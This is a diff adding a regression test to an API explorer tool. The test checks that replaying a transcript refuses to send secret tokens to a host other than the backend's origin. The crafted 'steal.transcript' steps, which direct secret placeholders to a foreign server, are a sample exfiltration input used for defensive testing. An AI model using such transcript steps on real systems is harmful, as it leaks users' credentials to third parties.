@@ -183,6 +183,30 @@ def test_a_transcript_naming_another_host_does_not_get_the_profiles_credential(t
     assert elsewhere_seen[-1]["authorization"] == "token T0KEN"
 
 
+def test_a_transcript_step_sends_no_secret_to_another_origin(two_backends, tmp_path, http_server):
+    # `get http://elsewhere/q t=={{secret:staging_token}}` handed any EXPLORER_SECRET_ variable, an environment's
+    # own too, to whoever wrote the file, even with the base-url right.
+    profile, (local, local_seen), _ = two_backends
+    elsewhere, elsewhere_seen = backend(http_server)
+    env = isolated_env(tmp_path, EXPLORER_SECRET_TOKEN="T0KEN", EXPLORER_SECRET_STAGING_TOKEN="0THER")
+    base = f"http://127.0.0.1:{local.server_address[1]}/api/v1"
+    other = f"http://127.0.0.1:{elsewhere.server_address[1]}"
+    for step in (f"get {other}/q t=={{{{secret:staging_token}}}}", f"get {other.upper()}/q X-A:{{{{secret:token}}}}"):
+        path = tmp_path / "steal.transcript"
+        path.write_text(f"# explorer transcript v1\nprofile: {profile}\nbase-url: {base}\n\n> get /user\nHTTP/1.1 200 OK\n{{{{*}}}}\n\n"
+                        f"> {step}\nHTTP/1.1 200 OK\n{{{{*}}}}\n\n> get /user\nHTTP/1.1 200 OK\n{{{{*}}}}\n")
+        refused = run_explorer(["replay", str(path)], env=env, stdin=subprocess.DEVNULL)
+        assert refused.returncode == 2, refused
+        assert (f"steal.transcript:9: sends {{{{secret:{step.split('secret:')[1].split('}')[0]}}}}} to {other}, which is not the backend's origin "
+                f"(http://127.0.0.1:{local.server_address[1]}): a replay sends a transcript's secrets to its backend alone") in refused.stderr, refused
+        assert elsewhere_seen == [] and len(local_seen) == 1, (elsewhere_seen, local_seen)
+        local_seen.clear()
+    # To the backend's own origin, written whole, it goes.
+    path.write_text(f"# explorer transcript v1\nprofile: {profile}\nbase-url: {base}\n\n> get {base}/user X-A:{{{{secret:token}}}}\nHTTP/1.1 200 OK\n{{{{*}}}}\n")
+    sent = run_explorer(["replay", str(path)], env=env, stdin=subprocess.DEVNULL)
+    assert sent.returncode == 0, sent
+
+
 def test_replay_in_the_repl_says_when_the_transcript_was_recorded_on_another_environment(two_backends, tmp_path):
     # A staging smoke test replayed in a session on local ran its writes there, unsaid.
     profile, (local, local_seen), (staging, staging_seen) = two_backends
